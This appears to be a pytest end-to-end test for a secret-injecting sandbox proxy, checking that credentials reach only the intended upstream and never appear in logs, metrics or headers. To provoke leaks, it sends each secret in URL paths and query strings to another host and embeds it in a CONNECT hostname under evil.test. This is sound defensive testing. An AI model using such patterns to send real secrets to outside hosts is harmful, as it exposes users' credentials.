"""End to end: the transform secrets reach the upstream and nothing else (docs/configuration.md#transform).

Runs after every other end-to-end test of its process (see `conftest.py`), so it scans
everything the proxy wrote during the session: its stdout and stderr, the audit log,
/metrics, every response header the sandbox saw, every refusal body (the scans of
tests/e2e/session_scan.py). It first sends the traffic most likely to leak, so it also
stands alone. The session proxy of every other process of `make test` is scanned the same
way as its session ends (D700).
"""

from __future__ import annotations

import pytest

from testbed.expect import Observed, header_values
from testbed.harness import Harness
from tests.e2e import session_scan

pytestmark = pytest.mark.netns


def provoke(harness: Harness) -> None:
    harness.https("api.allowed.test:443", "/echo-header?name=Authorization")
    harness.https("api.allowed.test:443", "/echo-header?name=X-Api-Key")
    harness.plain("http://plain.allowed.test/echo-header?name=X-Plain-Token")
    harness.plain("http://api.allowed.test/plaintext")  # plaintext_credentials
    harness.https("other.allowed.test:443", "/front", host="api.allowed.test")  # host_mismatch
    harness.https("api.allowed.test:443", "/x", host="user@api.allowed.test")  # bad_request
    harness.connect("ports.allowed.test:443")
    for secret in harness.secrets:  # issue 43: what the sandbox sends is audited masked
        harness.https("other.allowed.test:443", f"/leak/{secret}?{secret}=1")  # secret_elsewhere
        harness.https("other.allowed.test:443", "/leak/" + session_scan.urlsafe(secret))
        harness.plain(f"http://other.allowed.test/leak/{secret}")
        harness.connect(f"{secret}.evil.test:443")  # not_allowed: the host is the sandbox's


def test_secrets_reach_the_upstream_and_nothing_else(harness: Harness, obs: Observed):
    provoke(harness)
    received = [v for r in obs.requests() for v in header_values(r, "Authorization")]
    assert f"Bearer {harness.secrets[0]}" in received  # the scan below is not vacuous
    assert session_scan.leaks(harness) == []


def test_no_trap_was_ever_reached(harness: Harness):
    assert session_scan.traps(harness) == []


def test_proxy_logged_no_exception(harness: Harness):
    # Every request of the session went through; an addon error or a traceback in the
    # proxy's own output is a bug even when the traffic looked right.
    bad = session_scan.errors(harness)
    assert bad == [], f"{len(bad)} error lines, first: {bad[:5]}"
